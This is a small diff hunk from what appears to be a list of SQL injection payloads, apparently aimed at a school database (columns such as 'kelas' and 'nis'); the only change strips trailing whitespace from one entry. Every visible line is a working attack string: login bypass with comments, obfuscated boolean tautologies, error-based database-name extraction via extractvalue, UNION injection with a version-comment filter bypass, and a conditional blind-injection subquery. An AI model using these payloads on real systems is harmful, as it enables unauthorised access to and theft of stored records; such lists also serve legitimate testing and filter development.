@@ -27,7 +27,7 @@ X-1' GROUP BY kelas HAVING COUNT(*)>0--
 budi'/**/oR/**/'b'='b
 5' AND extractvalue(1,concat(0x7e,database()))#
 1 UNION/*!50000SELECT*/ 1,2,3
-admin'-- 
+admin'--
 admin' #
 99' OR nis LIKE '%
 (SELECT CASE WHEN (1=1) THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)
